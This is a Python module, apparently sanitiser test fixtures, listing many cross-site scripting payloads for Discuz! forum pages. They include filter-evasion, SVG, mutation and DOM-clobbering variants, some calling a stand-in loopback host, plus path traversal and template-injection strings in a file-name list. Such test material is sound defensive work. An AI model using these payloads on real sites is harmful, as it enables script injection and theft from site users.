"""Attack posts: what strangers write to run a script in a reader's browser. Each calls `alert` or asks a host outside.

After the OWASP XSS filter evasion and DOM clobbering sheets, the HTML5 Security Cheatsheet, published mutation XSS
against sanitisers, and what Discuz! pages have of their own (lazy pictures, code blocks, jammer text, quotes).
"""

from __future__ import annotations

from typing import Final

OUTSIDE: Final = "http://127.0.0.1:9/outside"

SCRIPTS: Final = (
    "<script>alert(1)</script>", "<SCRIPT SRC=http://127.0.0.1:9/outside.js></SCRIPT>", "<script/x>alert(1)</script>",
    "<<SCRIPT>alert(1);//<</SCRIPT>", "<scr<script>ipt>alert(1)</scr</script>ipt>", "<script\x00>alert(1)</script>",
    "<script>alert(1)", "<script src=data:,alert(1)></script>", "<script type=module>alert(1)</script>",
    "</textarea><script>alert(1)</script>", "</title><script>alert(1)</script>", "<script>/*</script><script>*/alert(1)</script>",
    "<!--<img src=\"--><img src=x onerror=alert(1)//\">", "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">", "<template><script>alert(1)</script></template>",
    "\ufeff<script>alert(1)</script>", "＜script＞alert(1)＜/script＞", "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<script xlink:href=data:,alert(1) />", "<?xml version=\"1.0\"?><script>alert(1)</script>", "]]><script>alert(1)</script>",
)  # fmt: skip
HANDLERS: Final = (
    "<img src=x onerror=alert(1)>", "<IMG SRC=# onmouseover=\"alert(1)\">", "<img src=x:x onerror\n=\nalert(1)>",
    "<img/src=x/onerror=alert(1)>", "<img src=\"x` `<script>alert(1)</script>\"` `>", "<img src=x onerror=alert`1`>",
    "<img \x0c src=x \x0b onerror=alert(1)>", "<body onload=alert(1)>", "<div onmouseover=alert(1)>x</div>",
    "<a onmouseover=alert(1) href=#>x</a>", "<input autofocus onfocus=alert(1)>", "<select autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)>", "<keygen autofocus onfocus=alert(1)>", "<details open ontoggle=alert(1)>x",
    "<video><source onerror=alert(1)></video>", "<audio src=x onerror=alert(1)>", "<video poster=javascript:alert(1)//>",
    "<marquee onstart=alert(1)>x</marquee>", "<object data=x onerror=alert(1)>", "<div onpointerover=alert(1)>x</div>",
    "<style onload=alert(1)></style>", "<link rel=stylesheet href=x onerror=alert(1)>", "<b tabindex=0 autofocus onfocus=alert(1)>x</b>",
    "<x onclick=alert(1)>click</x>", "<p style='animation:x' onanimationstart=alert(1)>x</p>",
    "<img src=x oNeRrOr=alert(1)>", "<img src=x onerror=&#97;lert(1)>", "<form oninput=alert(1)><button>x</button></form>",
    "<p onbeforematch=alert(1) hidden=until-found>x</p>", "<a id=x tabindex=1 onfocusin=alert(1)>x</a>",
    "<img src=x alt='\" onerror=alert(1) x=\"'>", "<b class='\" onmouseover=alert(1) \"'>x</b>",
    "<font color='red\" onmouseover=\"alert(1)'>x</font>", "<font color=\"'onmouseover='alert(1)\">x</font>",
)  # fmt: skip
ADDRESSES: Final = (
    "<a href=javascript:alert(1)>x</a>", "<a href=' javascript:alert(1)'>x</a>", "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='java\nscript:alert(1)'>x</a>", "<a href=JaVaScRiPt:alert(1)>x</a>", "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='&#x6A;&#x61;vascript&colon;alert(1)'>x</a>", "<a href='javascript&#58;alert(1)'>x</a>",
    "<a href='\x01javascript:alert(1)'>x</a>", "<a href='javascript://%0aalert(1)'>x</a>", "<a href=vbscript:alert(1)>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>", "<a href=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==>x</a>",
    "<a href='feed:javascript:alert(1)'>x</a>", "<a href='view-source:javascript:alert(1)'>x</a>",
    "<a href='http://bbs.example/x\" onmouseover=\"alert(1)'>x</a>", "<a href='//127.0.0.1:9/outside' ping=http://127.0.0.1:9/outside>x</a>",
    "<a href='/f/1\" onmouseover=alert(1) x=\"'>x</a>", "<a href='#p1\" onfocus=alert(1) autofocus x=\"'>x</a>",
    "<a href='mailto:x\" onmouseover=\"alert(1)'>x</a>", "<a href='javascript:alert(1)' target=_blank>x</a>",
    "<a href='forum.php?mod=viewthread&tid=javascript:alert(1)'>x</a>", "<a href='thread-1-1-1.html\"><script>alert(1)</script>'>x</a>",
    "<a href='forum.php?mod=redirect&goto=findpost&pid=1\"><img src=x onerror=alert(1)>'>x</a>", "<a href='blob:http://x/1'>x</a>",
    "<img src=javascript:alert(1)>", "<IMG SRC=`javascript:alert(1)`>", "<img dynsrc=javascript:alert(1)>",
    "<img src='data:image/svg+xml,<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"/>'>", "<img lowsrc=javascript:alert(1)>",
    "<img src=http://127.0.0.1:9/outside.png>", "<img srcset='http://127.0.0.1:9/outside.png 1x'>", "<img src=/-/media/1 onerror=alert(1)>",
    "<img src='/-/media/1\" onerror=\"alert(1)'>", "<img file='javascript:alert(1)' src=static/image/common/none.gif>",
    "<img zoomfile='http://127.0.0.1:9/outside.png\" onerror=\"alert(1)' src=x>", "<img file='\"><script>alert(1)</script>' src=x>",
    "<img smilieid='\"><script>alert(1)</script>' src=static/image/smiley/default/smile.gif alt='\"><img src=x onerror=alert(1)>'>",
    "<iframe src=javascript:alert(1)></iframe>", "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<iframe src=http://127.0.0.1:9/outside></iframe>", "<embed src=javascript:alert(1)>", "<object data=javascript:alert(1)></object>",
    "<object data='data:text/html,<script>alert(1)</script>'></object>", "<applet code=javascript:alert(1)></applet>",
    "<form action=javascript:alert(1)><button>x</button></form>", "<button formaction=javascript:alert(1)>x</button>",
    "<isindex action=javascript:alert(1) type=image>", "<base href='javascript:alert(1)//'>", "<base href=http://127.0.0.1:9/outside/>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>", "<meta http-equiv=refresh content='0;url=http://127.0.0.1:9/outside'>",
    "<link rel=stylesheet href=http://127.0.0.1:9/outside.css>", "<link rel=prefetch href=http://127.0.0.1:9/outside>",
    "<table background=javascript:alert(1)><td background=http://127.0.0.1:9/outside.png>x</table>", "<bgsound src=http://127.0.0.1:9/outside.mid>",
    "<video src=http://127.0.0.1:9/outside.mp4 autoplay></video>", "<audio src=http://127.0.0.1:9/outside.mp3 autoplay></audio>",
    "<frameset onload=alert(1)><frame src=http://127.0.0.1:9/outside></frameset>", "<input type=image src=http://127.0.0.1:9/outside.png>",
    "<portal src=http://127.0.0.1:9/outside></portal>", "<map><area href=javascript:alert(1)></map>", "<a href='intent://x#Intent;end'>x</a>",
)  # fmt: skip
STYLES: Final = (
    "<style>@import 'http://127.0.0.1:9/outside.css';</style>", "<style>body{background:url(http://127.0.0.1:9/outside.png)}</style>",
    "<p style='background:url(http://127.0.0.1:9/outside.png)'>x</p>", "<p style='width:expression(alert(1))'>x</p>",
    "<p style=\"color:red;background:url(javascript:alert(1))\">x</p>", "<p style='-moz-binding:url(http://127.0.0.1:9/outside.xml#x)'>x</p>",
    "<p style='behavior:url(x.htc)'>x</p>", "<p style='position:fixed;inset:0;z-index:9999;background:#fff'>over all</p>",
    "<p style='color:red\" onmouseover=\"alert(1)'>x</p>", "<font color='url(http://127.0.0.1:9/outside.png)'>x</font>",
    "<style>.x{color:red}</style><div class='post top find'>x</div>", "<div class='skip' id='content'>x</div>",
    "<style></style><img src='</style><img src=x onerror=alert(1)//'>", "<style><!--</style><script>alert(1)//--></script>",
    "<p style='color:#f00;}</style><script>alert(1)</script>'>x</p>", "<div style=\"list-style:url(http://127.0.0.1:9/outside.png)\">x</div>",
)  # fmt: skip
FOREIGN: Final = (
    "<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>", "<svg><script href=data:,alert(1) /></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text y=20>x</text></a></svg>", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><set attributeName=onmouseover to=alert(1)>", "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg onload=alert(1) />#x'/></svg>",
    "<svg><foreignObject><iframe srcdoc='<script>alert(1)</script>'></foreignObject></svg>", "<svg><image href=http://127.0.0.1:9/outside.png /></svg>",
    "<svg><animate xlink:href=#x attributeName=href values=javascript:alert(1) /><a id=x><text y=20>x</text></a></svg>",
    "<svg><style>*{background:url(http://127.0.0.1:9/outside.png)}</style></svg>", "<svg/onload=alert(1)//", "<svg><title><img src=x onerror=alert(1)></title></svg>",
    "<math><a xlink:href=javascript:alert(1)>x</a></math>", "<math href=javascript:alert(1)>x</math>",
    "<math><maction actiontype=statusline#http://x xlink:href=javascript:alert(1)>x</maction></math>",
    "<math><mtext><script>alert(1)</script></mtext></math>", "<math><annotation-xml encoding=text/html><script>alert(1)</script></annotation-xml></math>",
)  # fmt: skip
MUTATIONS: Final = (
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<form><math><mtext></form><form><mglyph><svg><mtext><textarea><path id=\"</textarea><img onerror=alert(1) src=1>\">",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">", "<svg><p><style><!--</style><img src=x onerror=alert(1)>--></style>",
    "<noscript><style></noscript><img src=x onerror=alert(1)>", "<noembed><img title=\"</noembed><img src=x onerror=alert(1)>\">",
    "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\">", "<plaintext><img src=x onerror=alert(1)>", "<listing>&lt;img src=1 onerror=alert(1)&gt;</listing>",
    "<svg><desc><noscript>&lt;/noscript&gt;&lt;/desc&gt;&lt;s&gt;&lt;/s&gt;&lt;style&gt;&lt;a title=\"&lt;/style&gt;&lt;img src onerror=alert(1)&gt;\"&gt;</noscript></svg>",
    "<math><mi><table><mi><style><!--</style><img src=x onerror=alert(1)>", "<select><template><style><!--</style><a rel=\"--></style></template></select><img id=x src onerror=alert(1)>\">",
    "<form id=f><math><mtext><form><mglyph><style><img src='</style><img src=x onerror=alert(1)>'>", "<table><svg><style><img src=x onerror=alert(1)></style></svg></table>",
    "<a href=\"&#x3c;img src=x onerror=alert(1)>\">&#x3c;img src=x onerror=alert(1)></a>", "<p title='&lt;/p&gt;&lt;img src=x onerror=alert(1)&gt;'>x</p>",
    "<img alt=\"``onerror=alert(1)\" src=x>", "<listing><style></listing><img src=x onerror=alert(1)></style>", "<title><a id=\"</title><img src=x onerror=alert(1)>\">",
    "<iframe><img title=\"</iframe><img src=x onerror=alert(1)>\"></iframe>", "<div><![CDATA[<img src=x onerror=alert(1)>]]></div>", "<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>",
    "<textarea><img title=\"</textarea><img src=x onerror=alert(1)>\">", "<b><a><b><a><table><a><img src=x onerror=alert(1)>", "<ruby><rt><style></ruby><img src=x onerror=alert(1)>",
    "<math><annotation-xml encoding=\"text/html\"><style><img title=\"</style><img src=x onerror=alert(1)>\">", "<svg><annotation-xml><foreignobject><style><!--</style><p id=\"--><img src=x onerror=alert(1)>\">",
    "<br>" * 300 + "<div>" * 600 + "<img src=x onerror=alert(1)>", "<a " + "x=1 " * 500 + "onmouseover=alert(1)>x</a>",
)  # fmt: skip
CLOBBERING: Final = (
    "<form id=document><input name=cookie></form>", "<a id=location href=javascript:alert(1)>x</a>", "<img name=body src=x>",
    "<form name=attributes><input name=attributes></form>", "<a name=p1 id=p1>jump here</a>", "<h1 id=h1>another heading</h1>",
)  # fmt: skip
DISCUZ: Final = (
    "<div class=blockcode><div id=code_1><ol><li><script>alert(1)</script><li>&lt;/code&gt;&lt;img src=x onerror=alert(1)&gt;</ol></div></div>",
    "<div class=blockcode><code></code></pre><script>alert(1)</script></code></div>", "<font class=jammer><script>alert(1)</script></font>x",
    "<div class=quote><blockquote><script>alert(1)</script><a href='javascript:alert(1)'>张三 发表于</a></blockquote></div>",
    "<ignore_js_op><img aid=1 file='javascript:alert(1)' onload=\"alert(1)\" inpost=1></ignore_js_op>",
    "<span style='display:none'><script>alert(1)</script></span>x", "<i class=pstatus><img src=x onerror=alert(1)></i>",
    "<script type=text/javascript reload=1>document.writeln(AC_FL_RunContent('src','http://127.0.0.1:9/outside.swf'))</script>",
    "<span id=swf_1></span><script>document.write('<img src=http://127.0.0.1:9/outside.png>')</script>",
    "[url=javascript:alert(1)]x[/url][img]javascript:alert(1)[/img]", "<div class=locked><a href=javascript:alert(1)>回复</a></div>",
)  # fmt: skip
ALL: Final = (*SCRIPTS, *HANDLERS, *ADDRESSES, *STYLES, *FOREIGN, *MUTATIONS, *CLOBBERING, *DISCUZ)
NAMES: Final = (
    "<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>", "' onmouseover='alert(1)", "javascript:alert(1)",
    "{{7*7}}{% raw %}<b>", "</title></textarea></style><script>alert(1)</script>", "\u202eexe.gnp <svg onload=alert(1)>",
    "../../../etc/passwd", "--><script>alert(1)</script>", "&lt;img src=x onerror=alert(1)&gt;",
)  # fmt: skip
